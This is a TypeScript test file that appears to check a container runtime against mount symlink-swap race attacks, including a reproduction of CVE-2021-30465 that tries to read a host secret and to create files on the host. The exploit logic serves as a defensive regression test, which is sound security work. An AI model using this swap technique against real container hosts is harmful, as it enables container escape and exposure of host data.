// Destinations of mounts that a hostile helper swaps with symbolic links out of the rootfs while they are looked for,
// made and mounted over (classes 5 and 10).

import { mkdirSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { attackTests, type Target } from '../support/attacks/attack.ts';
import { again, runOnce, whileSwapping } from '../support/attacks/hostile.ts';
import { type Bundle, writeConfig } from '../support/bundle.ts';

/** In the rootfs: a directory, and beside it a link to `target`, for the helper to exchange. */
function makeSwapped({ rootfs }: Bundle, target: string): [string, string] {
  const pair: [string, string] = [join(rootfs, 'mnt/volume'), join(rootfs, 'mnt/other')];
  mkdirSync(pair[0]);
  symlinkSync(target, pair[1]);
  return pair;
}

/** The links that an attacker would try: of host paths, and up as far as it goes. */
function outside(path: string): string[] {
  return [path, `../../../../../../../..${path}`];
}

/** CVE-2021-30465 as it was done: a volume of the attacker's lands on a directory of the host's, from which the next
 * mount takes its source: by a link of the attacker's, whatever it leads to. */
async function mountOverSources(target: Target): Promise<string[]> {
  const bundle = target.bundle({ args: ['sh', '-c', 'cat /out/secret'] });
  const sources = join(bundle.directory, 'sources');
  const volume = join(bundle.directory, 'volume');
  for (const path of [join(sources, 'public'), volume, join(bundle.directory, 'private')]) {
    mkdirSync(path, { recursive: true });
  }
  writeFileSync(join(bundle.directory, 'private/secret'), 'a secret of the host');
  symlinkSync(join(bundle.directory, 'private'), join(volume, 'public'));
  bundle.spec.mounts.push(
    { destination: '/mnt/volume', source: volume, type: 'bind', options: ['bind'] },
    { destination: '/out', source: join(sources, 'public'), type: 'bind', options: ['bind'] },
  );
  mkdirSync(join(bundle.rootfs, 'out'));
  writeConfig(bundle);
  return whileSwapping(makeSwapped(bundle, sources), () => again(target, async () => {
    const shown = await runOnce(target, bundle);
    return shown.includes('a secret of the host') ? ['reads a secret of the host'] : [];
  }));
}

/** A tmpfs in the place of what is in the image is no secret; one in the place of the host's is seen by who looks. */
function inMissing(kind: 'directory' | 'file') {
  return async (target: Target): Promise<string[]> => {
    const bundle = target.bundle({ args: ['true'] });
    const source = kind === 'directory' ? target.canaries : join(target.canaries, 'file');
    const aim = join(target.canaries, 'directory');
    const gains: string[] = [];
    for (const link of outside(aim)) {
      const swapped = makeSwapped(bundle, link);
      gains.push(...await whileSwapping(swapped, () => again(target, async (round) => {
        const destination = `/mnt/volume/made-${round}/below/it`;
        bundle.spec.mounts = [...bundle.spec.mounts.filter(({ source: from }) => from !== source), {
          destination, source, type: 'bind', options: ['bind', 'ro'],
        }];
        writeConfig(bundle);
        await runOnce(target, bundle);
        return readdirSync(aim).map((name) => `makes ${name.replace(/\d+/, 'N')} on the host`);
      })));
      for (const path of swapped) rmSync(path, { recursive: true });
      for (const name of readdirSync(aim)) rmSync(join(aim, name), { recursive: true });
    }
    return gains;
  };
}

attackTests(5, { needs: ['gcc'], attacks: { 'mount over the sources of other mounts': mountOverSources } });

attackTests(10, { needs: ['gcc'], attacks: {
  'directories that are missing': inMissing('directory'),
  'a file that is missing': inMissing('file'),
} });
